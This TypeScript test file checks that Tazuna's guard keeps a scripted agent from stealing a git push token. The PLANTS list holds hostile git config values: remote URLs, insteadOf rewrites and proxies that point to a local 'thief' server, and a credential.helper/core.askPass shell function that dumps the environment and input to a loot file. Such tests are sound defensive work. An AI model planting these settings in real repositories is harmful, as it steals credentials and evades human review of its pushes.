/** Tells that an agent which writes git's files gets no token: not by an address, proxy, helper or redirect. */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { type GitHttpServer, gitHttpServer } from "../../helpers/git-http-server.ts";
import { ask, branchAt, ending, PATIENCE_MS } from "../../helpers/journey.ts";
import { searchFiles } from "../../helpers/leak-hunt.ts";
import { type Product, startProduct } from "../../helpers/product.ts";
import { tally } from "../../helpers/tally.ts";
import { everySecond } from "../../helpers/tier.ts";

setDefaultTimeout(PATIENCE_MS);

const TOKEN = "canary-of-tazuna-token-2b7c";

let product: Product;
let server: GitHttpServer;
let thief: GitHttpServer;
let loot: string;
/** What the configuration of the repository says as the user left it. */
let clean: string;
const configFile = () => join(product.repository, ".git", "config");

beforeAll(async () => {
  product = await startProduct({ isolation: "guard" });
  loot = join(dirname(product.home), "loot");
  await mkdir(loot);
  const password = { user: "x-access-token", password: TOKEN };
  server = await gitHttpServer(dirname(product.origin), { password });
  // It lets no client in, so that each is asked for all its credentials.
  thief = await gitHttpServer(dirname(product.origin), { password: { user: "nobody", password: "nothing" } });
  await product.sandbox.git(product.repository, ["remote", "set-url", "origin", server.url("origin.git")]);
  clean = await readFile(configFile(), "utf8");
});
afterAll(async () => {
  await product?.[Symbol.asyncDispose]();
  await server?.[Symbol.asyncDispose]();
  await thief?.[Symbol.asyncDispose]();
});

const run = (name: string) =>
  ask(product, ["run", `Be ${name}`, "--agent", name], {
    env: { TAZUNA_GITHUB_TOKEN: TOKEN, GITHUB_API_URL: server.url("api/v3") },
  });

/** All that came to the thief, and all that its programs wrote down. */
async function stolen(): Promise<readonly string[]> {
  const heard = thief.requests.filter(
    ({ headers, path, login }) => login !== null || `${headers}${path}`.includes(TOKEN),
  );
  return [...heard.map(({ path }) => path), ...(await searchFiles(loot, { token: TOKEN }))];
}

/** Key and value of the setting. `THIEF` and `HUB` are the two servers, `LOOT` a program that keeps all its input. */
const PLANTS: readonly (readonly [string, string])[] = [
  ["remote.origin.url", "THIEF/origin.git"],
  ["remote.origin.pushurl", "THIEF/origin.git"],
  ["url.THIEF/.insteadOf", "HUB/"],
  ["url.THIEF/.pushInsteadOf", "HUB/"],
  ["http.proxy", "THIEF"],
  ["remote.origin.proxy", "THIEF"],
  ["http.HUB/.proxy", "THIEF"],
  ["http.extraHeader", "X-Wanted: all"],
  ["credential.helper", "LOOT"],
  ["credential.HUB.helper", "LOOT"],
  ["credential.HUB.username", "someone"],
  ["core.askPass", "LOOT"],
  ["lfs.url", "THIEF/origin.git"],
];

describe("an agent that plants", () => {
  for (const [index, [key, value]] of PLANTS.entries())
    test(
      everySecond(
        `\`${key} = ${value}\` gets no token: the push is refused until a person has looked`,
        index,
      ),
      async () => {
        const told = (text: string) =>
          text
            .replaceAll("THIEF", thief.url("").replace(/\/$/, ""))
            .replaceAll("HUB", server.url("").replace(/\/$/, ""))
            .replaceAll("LOOT", `!f() { { env; cat; } >> '${loot}/${index}'; }; f`);
        const program = `'${Bun.which("git")}' config --file '${configFile()}' ${quoted(told(key))} ${quoted(told(value))}`;
        const once = `mkdir '${loot}/once-${index}' && ${program}`;
        await product.agent(`planter-${index}`, `${once}; echo ${index} > ${index}.txt`);
        const end = await run(`planter-${index}`);
        expect(await readFile(configFile(), "utf8")).not.toBe(clean);
        expect<unknown>(end.run).toMatchObject({
          status: "FAILED",
          failure: { details: { kind: "planted" } },
        });
        expect(await stolen()).toEqual([]);
        tally("attack", `an agent plants ${key} to get at the token`, { under: "guard" });
        await writeFile(configFile(), clean);
        // What no earlier call uses stops the push. Then the commit is made, and only the push is done again.
        const { commit, failure, id } = end.run;
        if (commit !== null) expect(failure?.remedy).toContain(`tazuna retry ${id.slice(0, 8)} --from push`);
        const command = ["retry", id, ...(commit === null ? [] : ["--from", "push"])];
        const again = await ask(product, command);
        expect<unknown>(ending(again.run)).toEqual({ status: "SUCCEEDED", outcome: "pushed" });
        expect(await branchAt(product, product.origin, again.attempt.branch)).toBe(again.run.commit);
        expect(await stolen()).toEqual([]);
      },
    );
});

test("an address that a person changed gets no token either: it is not the host that the token is for", async () => {
  await product.agent("doer", "echo done > done.txt");
  // Spelled otherwise than the agents did: what they planted stays theirs until a person accepts it.
  const url = thief.url("origin.git").replace("127.0.0.1", "localhost");
  await writeFile(configFile(), clean.replace(/url = .*/, `url = ${url}`));
  thief.behave({ password: null, refusePushes: 401 });
  const end = await run("doer");
  expect<unknown>(ending(end.run)).toEqual({ status: "FAILED", outcome: null, failure: "push_auth" });
  expect(thief.requests.some(({ status, path }) => status === 401 && path.includes("receive-pack"))).toBe(
    true,
  );
  expect(await stolen()).toEqual([]);
  tally("attack", "a person was talked into another address for the remote", { under: "guard" });
  await writeFile(configFile(), clean);
  const again = await ask(product, ["retry", end.run.id, "--from", "push"]);
  expect<unknown>(ending(again.run)).toEqual({ status: "SUCCEEDED", outcome: "pushed" });
});

test("a remote that redirects pushes elsewhere once it has let them in leads no token there", async () => {
  thief.behave({ password: { user: "nobody", password: "nothing" }, refusePushes: null });
  server.behave({ redirectAfterLogin: thief.url("").replace(/\/$/, "") });
  const end = await run("doer");
  expect<unknown>(ending(end.run)).toMatchObject({ status: "FAILED" });
  expect(await stolen()).toEqual([]);
  server.behave({ redirectAfterLogin: null });
  tally("attack", "the remote itself redirects to a thief", { under: "guard" });
});

function quoted(text: string): string {
  return `'${text.replaceAll("'", "'\\''")}'`;
}
